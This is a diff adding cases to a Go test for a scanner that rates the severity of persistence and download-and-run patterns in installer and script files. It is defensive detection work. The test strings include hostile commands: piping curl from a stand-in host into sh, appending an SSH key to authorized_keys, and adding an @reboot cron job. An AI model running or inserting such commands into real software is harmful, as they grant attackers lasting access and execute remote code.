@@ -26,6 +26,9 @@ func TestSeverityByContext(t *testing.T) {
 		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
 		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
 		{"script adds to the profile", "scripts/setup.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> ~/.bashrc", 1, "high persistence"},
+		{"installer adds a key", "install.sh", "echo \"$KEY\" >> ~/.ssh/authorized_keys", 1, "high persistence"},
+		{"installer adds a cron job", "install.sh", "(crontab -l; echo '@reboot /opt/t/run') | crontab -", 1, "high persistence"},
+		{"ruby backticks run", "lib/x.rb", "`curl -s https://x.invalid/i | sh`", 1, "high download-and-run"},
 		{"profile backup is not the profile", "install.sh", "mv \"$HOME/.zshrc\" \"$HOME/.zshrc.pre-t\"", 1, ""},
 		// A command spelled in a string that nothing runs is a message.
 		{"install hint", "setup.py", "def hint(url):\n    return f\"curl -fsSL {url} | sh\"", 2, "medium download-and-run"},
